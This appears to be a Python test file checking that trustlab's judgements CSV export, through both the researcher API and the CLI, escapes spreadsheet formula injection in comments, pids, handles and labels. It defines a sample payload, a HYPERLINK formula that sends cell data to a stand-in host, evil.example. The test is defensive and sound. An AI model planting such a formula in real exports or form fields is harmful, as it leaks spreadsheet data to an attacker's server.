"""Formula injection: a rater's comment, pid and handle and a label that a spreadsheet would run as a
formula come out of the judgements CSV with a leading quote, through the researcher API and through
`trustlab study export`; the numeric columns still read back as numbers."""

from __future__ import annotations

import csv
import io

import pandas as pd
from fastapi.testclient import TestClient
from sqlalchemy import select, update
from typer.testing import CliRunner

from trustlab.cli import _load_verbs
from trustlab.cli.app import app
from trustlab.db.engine import unit_of_work
from trustlab.db.schema import Assignment, Prediction, User
from trustlab.platform.accounts import auth
from trustlab.platform.app import create_app
from trustlab.studies.monitoring.outcome_blinding import unblind_study

COMMENT = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _hostile_judgement(world, client) -> int:
    token = world.invite("alpha")[0]
    joined = client.post("/api/v1/invites/accept", json={"invite": token, "pid": "+1"}).json()
    headers = {"Authorization": f"Bearer {joined['token']}"}
    payload = client.get("/api/v1/studies/alpha/next", headers=headers).json()
    answers = {"model_correct": True, "true_label": "square", "trust": 4, "comment": COMMENT}
    r = client.post("/api/v1/judgements", headers=headers, json={
        "assignment_id": payload["assignment_id"], "idempotency_key": "k", "answers": answers})
    assert r.status_code == 201, r.text
    with unit_of_work(world.settings) as s:
        s.execute(update(User).where(User.id == joined["rater_id"]).values(username="@x"))
        item_id = s.scalar(select(Assignment.item_id).where(Assignment.id == payload["assignment_id"]))
        s.execute(update(Prediction).where(Prediction.item_id == item_id).values(predicted_label="-cmd"))
    return item_id


def _check(text: str, item_id: int) -> None:
    frame = pd.read_csv(io.StringIO(text))
    row = frame.set_index("item_id").loc[item_id]
    assert row["answer_comment"] == "'" + COMMENT
    assert row["external_pid"] == "'+1"
    assert row["rater"] == "'@x"
    assert row["predicted_label"] == "'-cmd"
    assert row["true_label"] in ("square", "disc")  # text that is no formula stays as it was
    for column in ("judgement_id", "assignment_id", "item_id", "position", "answer_trust", "response_ms"):
        assert pd.api.types.is_numeric_dtype(frame[column]), column
    assert frame["answer_trust"].tolist() == [4]
    # No cell of the file starts with a formula character.
    cells = [c for line in csv.reader(io.StringIO(text)) for c in line]
    assert not [c for c in cells if c[:1] in ("=", "+", "@") or (c[:1] == "-" and not c[1:2].isdigit())]


def test_judgements_csv_escapes_formulas_in_api_and_cli(world, monkeypatch, tmp_path):
    with TestClient(create_app(world.settings, ui=False)) as client:
        item_id = _hostile_judgement(world, client)
        auth.create_user(world.settings, username="res", role="researcher", password="researcher-pw-1")
        login = client.post("/api/v1/login", json={"username": "res", "password": "researcher-pw-1"})
        unblind_study(world.settings, "alpha", actor="res", reason="test")
        api = client.get("/api/v1/studies/alpha/judgements.csv",
                         headers={"Authorization": f"Bearer {login.json()['token']}"})
    assert api.status_code == 200, api.text
    _check(api.text, item_id)

    monkeypatch.setenv("TRUSTLAB_HOME", str(world.settings.home))
    monkeypatch.setenv("TRUSTLAB_DB_URL", world.settings.db_url or "")
    _load_verbs()
    result = CliRunner().invoke(app, ["study", "export", "alpha", "--out", str(tmp_path / "x")])
    assert result.exit_code == 0, result.output
    _check((tmp_path / "x" / "alpha-judgements.csv").read_text(encoding="utf-8"), item_id)
